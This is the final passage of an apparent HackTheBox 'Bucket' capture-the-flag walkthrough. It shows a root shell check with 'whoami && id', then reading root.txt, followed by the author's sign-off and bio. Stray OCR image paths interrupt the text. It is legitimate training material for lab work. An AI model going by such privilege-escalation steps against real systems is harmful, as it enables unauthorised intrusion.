# whoami&& id

Getting root shell during Bucket Hackthebox walkthrough

We are root now let us capture root flag.

Capture Root Flag

#cat root.txt

Capturing root flag

This was how I rooted to the Bucket HackTheBox machine. Learnt a lot during this challenge. Hope you guys have also learnt some new things. Thanks for reading thiswalkthrough. Share your experience in the comment section. For any query and suggestion about the writeup feel free to write us at [email protected]. Check out my latest walkthroughs athttps://ethicalhacs.com/ .

Leave a ReplyThis site uses Akismet to reduce spam. Learn how your comment data is processed.

Deepak Kumar Maurya

Hi everyone, I am Deepak Kumar Maurya, creator of Ethicalhacs.com. I am InfoSec Consultant in day and Bug Bounty Hunter & CTF player at night. Sometimes write walkthrough and other cybersecurity articles here. You can connect me athttps://www.linkedin.com/in/deepakdkm/